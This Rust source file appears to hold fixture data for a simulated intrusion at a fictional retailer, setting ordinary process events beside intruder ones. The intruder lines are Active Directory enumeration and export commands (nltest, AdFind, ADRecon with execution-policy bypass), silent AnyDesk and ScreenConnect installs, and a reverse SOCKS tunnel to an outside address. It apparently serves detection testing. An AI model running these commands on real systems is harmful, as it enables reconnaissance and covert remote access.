//! Programs that run on Northgate's computers, as process events name them.

/// One program started in one way.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Program {
    pub(crate) image: &'static str,
    pub(crate) command: &'static str,
    pub(crate) parent: &'static str,
    pub(crate) original: &'static str,
    pub(crate) description: &'static str,
    pub(crate) company: &'static str,
}

impl Program {
    const fn of(
        image: &'static str,
        command: &'static str,
        parent: &'static str,
        (original, description, company): (&'static str, &'static str, &'static str),
    ) -> Self {
        Self {
            image,
            command,
            parent,
            original,
            description,
            company,
        }
    }
}

const MICROSOFT: &str = "Microsoft Corporation";
const SERVICES: &str = r"C:\Windows\System32\services.exe";
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";

/// What runs on servers by itself.
pub(crate) const ON_SERVERS: &[Program] = &[
    Program::of(
        SVCHOST,
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        SERVICES,
        (
            "svchost.exe",
            "Host Process for Windows Services",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\taskhostw.exe",
        "taskhostw.exe SYSTEM",
        SVCHOST,
        ("taskhostw.exe", "Host Process for Windows Tasks", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        CMD,
        ("CONHOST.EXE", "Console Window Host", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        SVCHOST,
        ("Wmiprvse.exe", "WMI Provider Host", MICROSOFT),
    ),
    Program::of(
        r"C:\Program Files\Northgate\Monitor\agent.exe",
        r#""C:\Program Files\Northgate\Monitor\agent.exe" --probe disk"#,
        SERVICES,
        ("agent.exe", "Monitoring agent", "Northgate Stores"),
    ),
    Program::of(
        r"C:\Program Files\Northgate\Backup\guest.exe",
        r#""C:\Program Files\Northgate\Backup\guest.exe" /quiesce"#,
        SERVICES,
        ("guest.exe", "Backup guest helper", "Northgate Stores"),
    ),
    Program::of(
        r"C:\Windows\System32\wuauclt.exe",
        r"C:\Windows\system32\wuauclt.exe /RunHandlerComServer",
        SVCHOST,
        ("wuauclt.exe", "Windows Update", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\sc.exe",
        "sc query wuauserv",
        CMD,
        (
            "sc.exe",
            "Service Control Manager Configuration Tool",
            MICROSOFT,
        ),
    ),
];

/// What runs on the job scheduler and the ordering servers.
pub(crate) const JOBS: &[Program] = &[
    Program::of(
        CMD,
        r"cmd /c D:\jobs\prices\send-prices.cmd",
        r"D:\scheduler\bin\runner.exe",
        ("Cmd.Exe", "Windows Command Processor", MICROSOFT),
    ),
    Program::of(
        CMD,
        r"cmd /c D:\jobs\orders\order-run.cmd",
        r"D:\scheduler\bin\runner.exe",
        ("Cmd.Exe", "Windows Command Processor", MICROSOFT),
    ),
    Program::of(
        POWERSHELL,
        r"powershell.exe -NoProfile -File D:\jobs\terminals\start-of-day.ps1",
        r"D:\scheduler\bin\runner.exe",
        ("PowerShell.EXE", "Windows PowerShell", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\Robocopy.exe",
        r"robocopy D:\out \\file-3\stores /MIR /R:2",
        CMD,
        ("robocopy.exe", "Microsoft Robocopy", MICROSOFT),
    ),
];

/// What people who run systems start on their desks.
pub(crate) const ON_DESKS: &[Program] = &[
    Program::of(
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#,
        EXPLORER,
        ("msedge.exe", "Microsoft Edge", MICROSOFT),
    ),
    Program::of(
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        EXPLORER,
        ("Outlook.exe", "Microsoft Outlook", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\mstsc.exe",
        r"mstsc.exe /v:jump-1.northgate.example",
        EXPLORER,
        ("mstsc.exe", "Remote Desktop Connection", MICROSOFT),
    ),
    Program::of(
        POWERSHELL,
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe""#,
        EXPLORER,
        ("PowerShell.EXE", "Windows PowerShell", MICROSOFT),
    ),
    Program::of(
        CMD,
        r#""C:\Windows\system32\cmd.exe""#,
        EXPLORER,
        ("Cmd.Exe", "Windows Command Processor", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\mmc.exe",
        r#""C:\Windows\system32\mmc.exe" C:\Windows\system32\dsa.msc"#,
        EXPLORER,
        ("mmc.exe", "Microsoft Management Console", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\system32\notepad.exe" change-plan.txt"#,
        EXPLORER,
        ("NOTEPAD.EXE", "Notepad", MICROSOFT),
    ),
];

/// What administrators do now and then that looks like reconnaissance and is not.
pub(crate) const ADMINISTRATION: &[Program] = &[
    Program::of(
        r"C:\Windows\System32\nltest.exe",
        "nltest /dsgetdc:northgate.example",
        CMD,
        (
            "nltestrk.exe",
            "Microsoft Logon Server Test Utility",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\whoami.exe",
        "whoami /groups",
        CMD,
        (
            "whoami.exe",
            "whoami - displays logged on user information",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\gpupdate.exe",
        "gpupdate /force",
        CMD,
        ("GPUpdate.exe", "Group Policy Update", MICROSOFT),
    ),
    Program::of(
        r"C:\Windows\System32\ipconfig.exe",
        "ipconfig /all",
        CMD,
        ("ipconfig.exe", "IP Configuration Utility", MICROSOFT),
    ),
];

/// What the intruder runs to read the directory, on the jump host.
pub(crate) const READING_THE_DIRECTORY: &[Program] = &[
    Program::of(
        r"C:\Windows\System32\whoami.exe",
        "whoami /all",
        CMD,
        (
            "whoami.exe",
            "whoami - displays logged on user information",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\nltest.exe",
        "nltest /domain_trusts /all_trusts",
        CMD,
        (
            "nltestrk.exe",
            "Microsoft Logon Server Test Utility",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\nltest.exe",
        "nltest /dclist:northgate.example",
        CMD,
        (
            "nltestrk.exe",
            "Microsoft Logon Server Test Utility",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\net.exe",
        r#"net group "ESX Admins" /domain"#,
        CMD,
        ("net.exe", "Net Command", MICROSOFT),
    ),
    Program::of(
        r"C:\Users\Public\Downloads\ADExplorer64.exe",
        r#"ADExplorer64.exe -accepteula -snapshot "" C:\Users\Public\ng.dat"#,
        CMD,
        (
            "AdExp",
            "Active Directory Editor",
            "Sysinternals - www.sysinternals.com",
        ),
    ),
];

/// What the intruder runs on the job scheduler.
pub(crate) const READING_FROM_THE_SCHEDULER: &Program = &Program::of(
    POWERSHELL,
    r"powershell.exe -ExecutionPolicy Bypass -File C:\Users\Public\ADRecon.ps1 -OutputDir C:\Users\Public\r",
    CMD,
    ("PowerShell.EXE", "Windows PowerShell", MICROSOFT),
);

/// The remote access tool being put there.
pub(crate) const REMOTE_TOOL: &Program = &Program::of(
    r"C:\Users\Public\Downloads\AnyDesk.exe",
    r#""C:\Users\Public\Downloads\AnyDesk.exe" --install "C:\ProgramData\AnyDesk" --start-with-win --silent"#,
    EXPLORER,
    ("AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH"),
);

/// The remote access tool running as a service.
pub(crate) const REMOTE_TOOL_SERVICE: &Program = &Program::of(
    r"C:\ProgramData\AnyDesk\AnyDesk.exe",
    r#""C:\ProgramData\AnyDesk\AnyDesk.exe" --service"#,
    SERVICES,
    ("AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH"),
);

/// What an affiliate runs to read the directory.
pub(crate) const SWEEPING_THE_DIRECTORY: &[Program] = &[
    Program::of(
        r"C:\Windows\System32\nltest.exe",
        "nltest /domain_trusts",
        CMD,
        (
            "nltestrk.exe",
            "Microsoft Logon Server Test Utility",
            MICROSOFT,
        ),
    ),
    Program::of(
        r"C:\Windows\System32\net.exe",
        r#"net group "Domain Admins" /domain"#,
        CMD,
        ("net.exe", "Net Command", MICROSOFT),
    ),
    COPYING_THE_DIRECTORY,
];

/// The directory being copied out with a tool that auditors use too.
pub(crate) const COPYING_THE_DIRECTORY: Program = Program::of(
    r"C:\Users\Public\AdFind.exe",
    r#"AdFind.exe -f "objectcategory=computer" -csv"#,
    CMD,
    ("AdFind.exe", "AdFind", "www.joeware.net"),
);

/// A way back in from outside.
pub(crate) const REVERSE_TUNNEL: &Program = &Program::of(
    r"C:\ProgramData\c.exe",
    "c.exe client 203.0.113.249:443 R:1080:socks",
    CMD,
    ("", "", ""),
);

/// A port forwarded back to where its user sits, as those who look after a supplier's machine do.
pub(crate) const PORT_FORWARDED: &Program = &Program::of(
    r"C:\Program Files\PuTTY\plink.exe",
    "plink.exe -batch -R 8443:localhost:443 lab@192.0.2.9",
    CMD,
    ("Plink", "Command-line SSH client", "Simon Tatham"),
);

/// A second remote access tool being put on a server.
pub(crate) const SECOND_TOOL: &Program = &Program::of(
    r"C:\Program Files (x86)\ScreenConnect Client (5f1c29d0)\ScreenConnect.ClientService.exe",
    r#""C:\Program Files (x86)\ScreenConnect Client (5f1c29d0)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest""#,
    EXPLORER,
    (
        "ScreenConnect.ClientService.dll",
        "ScreenConnect Client",
        "ScreenConnect Software",
    ),
);
